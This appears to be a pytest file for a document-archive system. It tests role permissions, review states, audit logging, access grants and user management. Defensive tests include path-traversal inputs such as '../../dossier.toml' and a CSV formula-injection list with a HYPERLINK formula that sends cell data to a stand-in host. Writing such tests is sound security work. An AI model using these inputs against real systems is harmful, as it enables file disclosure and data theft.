"""Every lifecycle verb refuses a role that may not act, an inactive account and a record in
the wrong state, and a refusal changes nothing. Called directly, without the web room."""
from __future__ import annotations

import dataclasses

import pytest
from sqlalchemy import func, select

from archive_store import audit_log, corrections, grants, review, users, viewing, worklists
from archive_store.errors import DossierError, InvalidState, NotAllowed, NotFound
from archive_store.matching import CustomerRef
from archive_store.messages import render
from archive_store.models import AccessGrant, AuditEvent, Document, User, utcnow
from tests.store.conftest import users_of


def _pending(system, name: str) -> str:
    from tests.web.seed import _file

    return _file(system, name=name, doc_type="contract", title="测试合同",
                 customer=CustomerRef("enterprise", name="审核测试有限公司"),
                 lines=[("合同编号", "T-1", "contract_no")], fields={"contract_no": "T-1"},
                 issue=utcnow().date(), effective=False)


def _inactive(user: User) -> User:
    clone = User(id=user.id, username=user.username, role=user.role, active=False,
                 password_hash=user.password_hash, display_name=user.display_name)
    return clone


def _events(system) -> int:
    with system.db.read() as s:
        return s.scalar(select(func.count()).select_from(AuditEvent))


def _doc(system, doc_no: str) -> Document:
    with system.db.read() as s:
        return s.scalar(select(Document).where(Document.doc_no == doc_no))


# --- review -----------------------------------------------------------------------------

def test_approve_needs_an_active_department_head_and_a_pending_record(world):
    system, _ = world
    who, doc_no = users_of(system), _pending(system, "rv-approve.jpg")
    before = _events(system)
    for actor in (who["clerk"], who["sales"], who["leader"], _inactive(who["dept_head"])):
        with pytest.raises(NotAllowed):
            review.approve(system, actor, doc_no)
    assert _events(system) == before and _doc(system, doc_no).status == "pending_review"
    review.approve(system, who["dept_head"], doc_no)
    assert _doc(system, doc_no).status == "effective"
    with pytest.raises(InvalidState):
        review.approve(system, who["dept_head"], doc_no)
    with system.db.read() as s:
        event = s.scalars(select(AuditEvent).where(AuditEvent.object_id == doc_no)
                          .order_by(AuditEvent.seq.desc())).first()
    assert event.action == "document.approved" and "pending_review" in event.before


def test_approve_re_indexes_so_staff_find_the_record_once_it_takes_effect(world):
    from archive_store.search import search

    system, _ = world
    who, doc_no = users_of(system), _pending(system, "rv-index.jpg")
    assert doc_no not in {h.doc_no for h in search(system, who["sales"], "测试合同").hits}
    review.approve(system, who["dept_head"], doc_no)
    assert doc_no in {h.doc_no for h in search(system, who["sales"], "测试合同").hits}


def test_return_and_resubmit_follow_the_states(world):
    system, _ = world
    who, doc_no = users_of(system), _pending(system, "rv-return.jpg")
    with pytest.raises(DossierError):
        review.return_to_clerk(system, who["dept_head"], doc_no, "   ")
    with pytest.raises(InvalidState):
        review.resubmit(system, who["clerk"], doc_no)
    review.return_to_clerk(system, who["dept_head"], doc_no, "印章不清")
    doc = _doc(system, doc_no)
    assert doc.status == "returned" and render(doc.review_reasons[-1]) == "退回：印章不清"
    with pytest.raises(NotAllowed):
        review.resubmit(system, who["sales"], doc_no)
    review.resubmit(system, who["clerk"], doc_no)
    assert _doc(system, doc_no).status == "pending_review"


def test_correct_field_records_before_after_and_marks_it_set_by_a_person(world):
    system, _ = world
    who, doc_no = users_of(system), _pending(system, "rv-correct.jpg")
    with pytest.raises(DossierError):
        corrections.correct_field(system, who["dept_head"], doc_no, "contract_no", "T-2", "")
    with pytest.raises(DossierError):
        corrections.correct_field(system, who["dept_head"], doc_no, "no_such_key", "x", "理由")
    with pytest.raises(NotAllowed):
        corrections.correct_field(system, who["clerk"], doc_no, "id_number", "11010519491231002X", "理由")
    corrections.correct_field(system, who["dept_head"], doc_no, "contract_no", "T-2", "印刷模糊，对照原件")
    doc = _doc(system, doc_no)
    assert doc.fields["contract_no"] == "T-2" and doc.field_set_by["contract_no"] == "person"
    with system.db.read() as s:
        event = s.scalars(select(AuditEvent).where(AuditEvent.object_id == doc_no)
                          .order_by(AuditEvent.seq.desc())).first()
    assert event.action == "document.field_corrected"
    assert '"value":"T-1"' in event.before and '"value":"T-2"' in event.after
    review.approve(system, who["dept_head"], doc_no)
    with pytest.raises(InvalidState):  # an effective record is not corrected in review
        corrections.correct_field(system, who["dept_head"], doc_no, "contract_no", "T-3", "理由")


def test_a_refused_review_verb_changes_nothing(world):
    system, _ = world
    who, doc_no = users_of(system), _pending(system, "rv-fail.jpg")
    before = _events(system)
    with pytest.raises(NotAllowed):
        review.return_to_clerk(system, who["sales"], doc_no, "x")
    with pytest.raises(NotFound):
        review.approve(system, who["dept_head"], "2026X99999-001")
    assert _doc(system, doc_no).status == "pending_review" and _events(system) == before


def test_the_review_queue_is_for_department_heads(world):
    system, _ = world
    who = users_of(system)
    rows, total = worklists.queue(system, who["dept_head"])
    assert total >= 2 and all(r.doc.status == "pending_review" for r in rows)
    assert rows[0].open_problems  # flagged first
    for role in ("clerk", "sales", "auditor", "admin"):
        with pytest.raises(NotAllowed):
            worklists.queue(system, who[role])


# --- viewing ----------------------------------------------------------------------------

def test_opening_a_document_is_logged_and_a_refusal_is_logged_too(world):
    system, data = world
    who = users_of(system)
    doc_no = data.docs["contract"]
    view = viewing.open_document(system, who["sales"], doc_no)
    assert "amount" in {f.key for f in view.fields}
    with pytest.raises(NotAllowed):
        viewing.open_document(system, who["marketing"], doc_no)  # contracts are not research
    with system.db.read() as s:
        actions = [e.action for e in s.scalars(select(AuditEvent).where(AuditEvent.object_id == doc_no)
                                                .order_by(AuditEvent.seq.desc()).limit(2))]
    assert actions == ["document.view_denied", "document.viewed"]


def test_downloads_need_every_field_on_the_document(world):
    system, data = world
    who = users_of(system)
    assert viewing.download(system, who["clerk"], data.docs["contract"], "original").path.is_file()
    with pytest.raises(NotAllowed):
        viewing.download(system, who["sales"], data.docs["contract"], "original")
    with pytest.raises(NotAllowed):  # the ID number is core-secret: the clerk may not have it all
        viewing.download(system, who["clerk"], data.docs["person_form"], "original")
    with pytest.raises(NotFound):
        viewing.download(system, who["clerk"], data.docs["contract"], "../../dossier.toml")
    with pytest.raises(NotFound):
        viewing.open_document(system, who["clerk"], "../dossier.toml")


def test_the_archive_catalogue_is_in_issue_date_order_and_hides_what_the_user_may_not_open(world):
    system, data = world
    who = users_of(system)
    archive_no = data.archives["contract"]
    full = viewing.open_archive(system, who["clerk"], archive_no)
    dates = [d.issue_date for d in full.catalogue]
    assert dates == sorted(dates) and full.withheld == 0
    marketing = viewing.open_archive(system, who["marketing"], archive_no)
    assert marketing.withheld > 0 and all(d.doc_type != "contract" for d in marketing.catalogue)
    for role in ("auditor", "admin"):
        with pytest.raises(NotAllowed):
            viewing.open_archive(system, who[role], archive_no)


# --- grants -----------------------------------------------------------------------------

def test_only_a_leader_grants_core_access_and_it_opens_the_id_number(world):
    system, data = world
    who = users_of(system)
    archive_no, doc_no = data.archives["person_form"], data.docs["person_form"]
    assert "id_number" in viewing.open_document(system, who["clerk"], doc_no).hidden
    for role in ("dept_head", "archive_manager", "clerk"):
        with pytest.raises(NotAllowed):
            grants.grant(system, who[role], archive_no, who["clerk"].username, "核对身份", 3)
    with pytest.raises(DossierError):
        grants.grant(system, who["leader"], archive_no, who["clerk"].username, "  ", 3)
    with pytest.raises(DossierError):
        grants.grant(system, who["leader"], archive_no, who["clerk"].username, "核对身份", 91)
    grant_id = grants.grant(system, who["leader"], archive_no, who["clerk"].username, "核对身份", 3)
    assert "id_number" in {f.key for f in viewing.open_document(system, who["clerk"], doc_no).fields}
    with pytest.raises(NotAllowed):
        grants.revoke(system, who["clerk"], archive_no, grant_id)
    grants.revoke(system, who["leader"], archive_no, grant_id)
    assert "id_number" in viewing.open_document(system, who["clerk"], doc_no).hidden
    with system.db.read() as s:
        assert s.get(AccessGrant, grant_id).revoked_by == who["leader"].username


# --- users ------------------------------------------------------------------------------

def test_only_an_active_admin_manages_users_and_never_their_own_account(world):
    system, _ = world
    who = users_of(system)
    with system.db.read() as s:
        admin = s.scalar(select(User).where(User.username == "admin"))
    for actor in (who["leader"], who["auditor"], _inactive(admin)):
        with pytest.raises(NotAllowed):
            users.add_user(system, actor, username="newbie", role="sales")
        with pytest.raises(NotAllowed):
            users.list_users(system, actor)
    with pytest.raises(DossierError):
        users.edit_user(system, admin, "admin", role="admin", active=False)
    with pytest.raises(DossierError):
        users.add_user(system, admin, username="newbie", role="boss")
    user, password = users.add_user(system, admin, username="newbie", role="sales")
    assert password and len(password) >= users.MIN_PASSWORD
    users.edit_user(system, admin, "newbie", role="service", active=False)
    with pytest.raises(NotAllowed):
        users.acting_user(system, "newbie")  # `--as` an inactive account is refused
    with pytest.raises(NotFound):
        users.acting_user(system, "nobody")


# --- the audit view ---------------------------------------------------------------------

def test_only_the_auditor_reads_and_exports_the_trail(world):
    system, _ = world
    who = users_of(system)
    for role in ("admin", "leader", "archive_manager"):
        with pytest.raises(NotAllowed):
            audit_log.events(system, who[role], {})
        with pytest.raises(NotAllowed):
            audit_log.export_rows(system, who[role], {})
    rows, total = audit_log.events(system, who["auditor"], {"action": "user."}, size=5)
    assert total > 0 and len(rows) <= 5 and all(r.action.startswith("user.") for r in rows)
    exported = list(audit_log.export_rows(system, who["auditor"], {}))
    assert exported[0] == audit_log.CSV_HEADER and exported[-1][3] == "audit.exported"


def test_an_inactive_account_opens_and_finds_nothing(world):
    from archive_store.search import search

    system, data = world
    gone = _inactive(users_of(system)["clerk"])
    for call in (lambda: viewing.open_document(system, gone, data.docs["contract"]),
                 lambda: viewing.page_image(system, gone, data.docs["contract"], 1),
                 lambda: viewing.download(system, gone, data.docs["contract"], "original"),
                 lambda: viewing.open_archive(system, gone, data.archives["contract"]),
                 lambda: search(system, gone, "合同")):
        with pytest.raises(NotAllowed):
            call()


def test_every_csv_the_portal_writes_keeps_formulas_inert():
    import csv
    import io

    from archive_store import csvfile

    hostile = ['=HYPERLINK("http://x/"&A1)', "+1", "-1+2", "@SUM(A1)", "\tx", "\rx", "正常文字"]
    back = list(csv.reader(io.StringIO(csvfile.text([hostile]).lstrip("\ufeff"))))[0]
    assert back[-1] == "正常文字" and all(c.startswith("'") for c in back[:-1])
